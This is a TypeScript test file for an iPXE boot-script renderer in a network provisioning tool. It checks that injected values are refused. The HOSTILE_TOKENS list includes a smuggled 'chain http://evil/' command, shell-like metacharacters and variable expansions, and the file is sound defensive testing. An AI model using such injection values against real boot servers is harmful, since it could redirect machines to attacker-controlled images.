import { readFileSync } from 'node:fs';
import test from 'ava';
import { BootboxError } from '../../firmware/core/errors.ts';
import { lastSegment, pollUrl, renderIpxeScript } from '../../firmware/policy/ipxe-script.ts';
import type { ScriptPlan } from '../../firmware/policy/script-plan.ts';
import { DEPLOY, GOLDEN_PLANS, HOSTILE_TEXT, LOCAL, MAC, selfUrl } from '../helpers/script-plans.ts';

const FIXTURES = new URL('../fixtures/scripts/', import.meta.url);
const ctx = { selfUrl: selfUrl('ipxe') };

function render(plan: ScriptPlan): string {
  const out = renderIpxeScript(plan, ctx);
  if (out instanceof BootboxError) throw out;
  return out;
}

for (const [name, plan] of Object.entries(GOLDEN_PLANS)) {
  test(`golden: ${name}.ipxe`, (t) => {
    t.is(render(plan), readFileSync(new URL(`${name}.ipxe`, FIXTURES), 'utf8'));
  });
}

test('local: BIOS boots drive 0x80 with sanboot, UEFI exits with an error status', (t) => {
  const lines = render(LOCAL).split('\n');
  // biome-ignore lint/suspicious/noTemplateCurlyInString: literal iPXE syntax under test
  t.true(lines.includes('iseq ${platform} pcbios && goto bootbox_local_bios ||'));
  t.true(lines.includes('sanboot --no-describe --drive 0x80 || exit 1'));
  const exitAt = lines.indexOf('exit 1');
  t.true(exitAt > 0 && exitAt < lines.indexOf(':bootbox_local_bios'), 'UEFI reaches exit 1 before the BIOS label');
});

test('deploy: initrd named on the kernel line as iPXE names the image', (t) => {
  const kernel = render(DEPLOY)
    .split('\n')
    .find((l) => l.startsWith('kernel '));
  t.is(
    kernel,
    'kernel http://10.77.0.1/boot/deploy/x64/vmlinuz initrd=initrd.img console=ttyS0 bootbox.url=http://10.77.0.1 ' +
      `bootbox.mac=${MAC} bootbox.image=win11 bootbox.name=HPC-NODE001 || goto bootbox_failed`,
  );
  t.is(lastSegment('http://box/boot/deploy/initrd.img?x=1'), 'initrd.img');
});

test('wait: polls the same script URL with the next attempt, replacing itself', (t) => {
  const out = render(GOLDEN_PLANS['wait-first']!);
  t.true(out.includes(`chain --replace http://10.77.0.1/boot/${MAC}.ipxe?attempt=2 || goto bootbox_failed\n`));
  t.is(pollUrl('http://b/boot/x.ipxe', 7), 'http://b/boot/x.ipxe?attempt=7');
  t.like(renderIpxeScript(GOLDEN_PLANS['wait-first']!, { selfUrl: 'http://b/x.ipxe?attempt=1' }), {
    code: 'UNSAFE_SCRIPT_VALUE',
  });
});

/** A value that would change the script if it were let through, in each token position. */
const HOSTILE_TOKENS = [
  'a b',
  'a\nchain http://evil/',
  'a\r\nx',
  'a\tb',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: literal iPXE syntax under test
  '${net0/mac}',
  '$x',
  '{x}',
  'a;b',
  '||',
  '&&',
  '#x',
  'a\\',
  '"q"',
  "'q'",
  '-opt',
  '',
  'ÿ',
  'a\u0000b',
  'x'.repeat(1025),
];

for (const bad of HOSTILE_TOKENS) {
  test(`a token ${JSON.stringify(bad.slice(0, 30))} is refused wherever it goes`, (t) => {
    const where: [string, ScriptPlan][] = [
      ['kernel URL', { ...DEPLOY, kernelUrl: bad }],
      ['initrd URL', { ...DEPLOY, initrdUrl: `http://10.77.0.1/boot/${bad}` }],
      ['kernel parameter', { ...DEPLOY, params: ['console=ttyS0', bad] }],
      [
        'menu key',
        {
          kind: 'menu',
          mac: MAC,
          title: 't',
          timeoutSec: 5,
          defaultKey: 'a',
          entries: [{ key: bad, label: 'l', plan: LOCAL }],
        },
      ],
    ];
    for (const [what, plan] of where) {
      const out = renderIpxeScript(plan, ctx);
      if (!(out instanceof BootboxError)) return t.fail(`${what} let through:\n${out}`);
      t.is(out.code, 'UNSAFE_SCRIPT_VALUE', what);
    }
  });
}

/** The syntax the renderer itself writes; anything else of that kind would be injected. */
const OWN_SYNTAX = [/\$\{platform\}/, /\$\{bootbox_choice\}/, / \|\| goto \S+$/, / \|\| exit 1$/, / && goto \S+ \|\|$/];

test('hostile display text stays on its own line and carries no iPXE syntax', (t) => {
  const hostilePlan = GOLDEN_PLANS['hostile-text']!;
  const benignPlan = JSON.parse(JSON.stringify(hostilePlan).replaceAll(JSON.stringify(HOSTILE_TEXT).slice(1, -1), 'x'));
  const lines = render(hostilePlan).split('\n');
  t.is(lines.length, render(benignPlan).split('\n').length, 'one line per command, as with benign text');
  t.is(lines[0], '#!ipxe');
  for (const line of lines.slice(1)) {
    let rest = line;
    for (const re of OWN_SYNTAX) rest = rest.replace(re, '');
    t.false(/[$;{}|&#\\"`\u0000-\u001f\u007f-\uffff]/.test(rest), line);
  }
});

test('numbers are checked, not rounded', (t) => {
  const wait = GOLDEN_PLANS['wait-first']! as Extract<ScriptPlan, { kind: 'wait' }>;
  for (const bad of [0, -1, 1.5, Number.NaN, 3601]) {
    t.like(renderIpxeScript({ ...wait, pollIntervalSec: bad }, ctx), { code: 'UNSAFE_SCRIPT_VALUE' }, String(bad));
  }
  t.like(renderIpxeScript({ ...wait, retries: 0 }, ctx), { code: 'UNSAFE_SCRIPT_VALUE' });
});

test('menu keys must be unique labels and the default must be one of them', (t) => {
  const base = GOLDEN_PLANS.menu! as Extract<ScriptPlan, { kind: 'menu' }>;
  t.like(renderIpxeScript({ ...base, defaultKey: 'nope' }, ctx), { code: 'UNSAFE_SCRIPT_VALUE' });
  t.like(
    renderIpxeScript(
      {
        ...base,
        entries: [
          { key: 'x', label: 'a', plan: LOCAL },
          { key: 'x', label: 'b', plan: LOCAL },
        ],
        defaultKey: 'x',
      },
      ctx,
    ),
    { code: 'UNSAFE_SCRIPT_VALUE' },
  );
  t.like(
    renderIpxeScript(
      {
        ...base,
        entries: [
          { key: 'local', label: 'a', plan: LOCAL },
          { key: 'local_bios', label: 'b', plan: LOCAL },
        ],
        defaultKey: 'local',
      },
      ctx,
    ),
    { code: 'UNSAFE_SCRIPT_VALUE' },
    'a key may not collide with a label the script uses itself',
  );
});
